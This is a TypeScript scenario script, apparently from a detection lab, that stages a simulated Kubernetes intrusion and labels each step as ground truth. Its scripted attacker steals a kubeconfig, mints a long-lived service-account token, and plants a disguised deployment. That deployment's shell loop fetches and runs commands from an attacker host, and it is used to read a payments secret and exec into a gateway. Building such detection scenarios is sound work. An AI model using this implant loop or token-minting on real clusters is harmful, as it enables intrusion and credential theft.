/** The second intrusion: a patient thief who changes identity twice, and goes on after the pod that holds the foothold was replaced. */
import { copyFileSync, existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { parse, stringify } from 'yaml'
import { deployEstate, image, manifest } from './estate.ts'
import type { Estate } from './estate.ts'
import type { GroundTruth, StepFacts } from './ground-truth.ts'
import { argv, pause, setting } from './people.ts'

const [audit, engine] = ['kubernetes-audit', 'docker-engine']
const from = '203.0.113.66'
const [stolen, minted] = ['alice.kubeconfig', 'deployer.kubeconfig']
const [deployer, reconciler] = ['system:serviceaccount:platform:deployer', 'system:serviceaccount:shop:reconciler']

export async function identityHops(truth: GroundTruth, estate: Estate): Promise<void> {
  const { admin, alice, ci, mallory } = estate
  await deployEstate(truth, estate)
  const setUp = 'The administrator sets up payments, the deployer and the settlement'
  await truth.benign('payments', 'admin', setUp, [audit, engine], async () => {
    await admin.run(argv`kubectl apply -f -`, { input: manifest('hops') })
    await admin.run(argv`kubectl -n payments rollout status deployment/gateway --timeout=60s`)
    await admin.run(argv`kubectl -n platform rollout status deployment/deployer --timeout=60s`)
  })
  await truth.benign('look-around', 'alice', 'Alice on call looks at the shop', [audit], async () => {
    await alice.run(argv`kubectl -n shop get pods -o wide`)
    await alice.run(argv`kubectl -n platform get serviceaccounts`)
  })
  await pause(30)

  // The theft itself happens on Alice's own machine, where nothing of ours watches.
  const home = `${setting('LAB_STATE')}/people`
  copyFileSync(`${home}/alice/kubeconfig`, `${home}/mallory/${stolen}`)
  await mintToken(truth, estate, `${home}/mallory`)
  await pause(25)
  const tasks = `${home}/mallory/tasks`
  mkdirSync(tasks)
  await mallory.during(argv`task-server 8080 ${tasks}`, async () => {
    await plantFoothold(truth, estate)
    await pause(20)
    const first = estate.pod('shop', 'cache-warmer')
    await borrowed(truth, estate, tasks, {
      step: 'neighbours-listed',
      what: 'From the foothold, as the account it runs under: lists the pods of payments',
      catalogue: ['F15'],
      commands: ['kubectl -n payments get pods -o name'],
    })
    await truth.benign('release-orders', 'ci', 'The pipeline releases orders 2.0.2', [audit, engine], async () => {
      await estate.build('orders', '2.0.2')
      await ci.run(argv`kubectl -n shop set image deployment/orders orders=${image('shop/orders', '2.0.2')}`)
      await ci.run(argv`kubectl -n shop rollout status deployment/orders --timeout=60s`)
    })
    const restarted = 'The administrator lets all pods of the shop begin anew, the foothold among them'
    await truth.benign('pods-replaced', 'admin', restarted, [audit, engine], async () => {
      await admin.run(argv`kubectl -n shop delete pods --all --wait=false`)
      return { pod: first }
    })
    await pause(45)
    await borrowed(truth, estate, tasks, {
      step: 'secret-read',
      what: 'From the pod that replaced the foothold: reads the secret of payments',
      catalogue: ['F15'],
      commands: ['kubectl -n payments get secret acquirer-login -o yaml'],
    })
    await pause(20)
    await borrowed(truth, estate, tasks, {
      step: 'exec-next-door',
      what: 'From the same pod: runs a command in the gateway of payments',
      catalogue: ['B01', 'F15'],
      commands: ['kubectl -n payments exec deployment/gateway -- env'],
    })
  })
  await truth.benign('look-again', 'alice', 'Alice looks at the shop once more', [audit], async () => {
    await alice.run(argv`kubectl -n shop get pods`)
  })
  await pause(Number(setting('LAB_SETTLE')))
}

/** First change of identity: a token that is bound to no pod and holds for ten hours. */
function mintToken(truth: GroundTruth, { mallory }: Estate, home: string): Promise<void> {
  const facts: StepFacts = {
    step: 'token-minted',
    actor: 'mallory',
    as: 'alice',
    from,
    what: "With Alice's stolen kubeconfig: looks at the service accounts of platform, and asks for a token of one",
    catalogue: ['F04', 'F15'],
    sources: [audit],
    entities: { namespace: 'platform', serviceaccount: 'deployer' },
  }
  return truth.step(facts, async () => {
    await mallory.run(argv`kubectl --kubeconfig=${stolen} -n platform get serviceaccounts`)
    await pause(8)
    const path = '/api/v1/namespaces/platform/serviceaccounts/deployer/token'
    const request = {
      apiVersion: 'authentication.k8s.io/v1',
      kind: 'TokenRequest',
      spec: { expirationSeconds: 36_000 },
    }
    const input = JSON.stringify(request)
    const { output } = await mallory.run(argv`kubectl --kubeconfig=${stolen} create --raw ${path} -f -`, { input })
    const { status } = JSON.parse(output) as { status: { token: string } }
    const config = parse(readFileSync(`${home}/${stolen}`, 'utf8')) as { users: { user: object }[] }
    for (const each of config.users) each.user = { token: status.token }
    writeFileSync(`${home}/${minted}`, stringify(config), { mode: 0o600 })
  })
}

/** Second change of identity: a workload that runs as another account, and asks the thief's machine what to do. */
function plantFoothold(truth: GroundTruth, { mallory }: Estate): Promise<void> {
  const facts: StepFacts = {
    step: 'foothold-planted',
    actor: 'mallory',
    as: deployer,
    from,
    what: "With the deployer's token, from her own machine: creates a deployment that runs as the reconciler",
    catalogue: ['F15'],
    sources: [audit, engine],
    entities: { namespace: 'shop', deployment: 'cache-warmer' },
  }
  const labels = { app: 'cache-warmer' }
  const poll = `while :; do wget -q -O /tmp/next http://${from}:8080/next && sh /tmp/next; sleep 4; done`
  const container = { name: 'warmer', image: image('platform/toolbox', '2.1'), command: ['sh', '-c', poll] }
  const spec = { serviceAccountName: 'reconciler', terminationGracePeriodSeconds: 1, containers: [container] }
  const deployment = {
    apiVersion: 'apps/v1',
    kind: 'Deployment',
    metadata: { name: 'cache-warmer', namespace: 'shop', labels },
    spec: { selector: { matchLabels: labels }, template: { metadata: { labels }, spec } },
  }
  return truth.step(facts, async () => {
    await mallory.run(argv`kubectl --kubeconfig=${minted} -n shop get deployments`)
    await pause(5)
    const create = argv`kubectl --kubeconfig=${minted} create -f -`
    await mallory.run(create, { input: JSON.stringify(deployment) })
    await pause(8)
  })
}

interface Task extends Pick<StepFacts, 'step' | 'what' | 'catalogue'> {
  commands: string[]
}

/** What the implant does for her, wherever its pod is now. */
function borrowed(truth: GroundTruth, estate: Estate, tasks: string, { commands, ...said }: Task): Promise<void> {
  const sources = [audit]
  return truth.step({ ...said, actor: 'mallory', as: reconciler, sources }, async () => {
    const pod = estate.pod('shop', 'cache-warmer')
    for (const command of commands) {
      const time = new Date().toISOString()
      writeFileSync(`${tasks}/next`, `${command}\nwget -q -O - http://${from}:8080/done/$?\n`)
      const exitCode = await endOf(`${tasks}/done`)
      truth.tell('mallory', { time, command, exitCode, output: '' })
    }
    return { namespace: 'shop', pod, address: estate.address(pod), container: estate.container(pod, 'warmer') }
  })
}

async function endOf(file: string): Promise<number> {
  for (let second = 0; second < 60; second += 1) {
    await pause(1)
    if (!existsSync(file)) continue
    const code = Number(readFileSync(file, 'utf8'))
    rmSync(file)
    return code
  }
  throw new Error('no implant did the task')
}
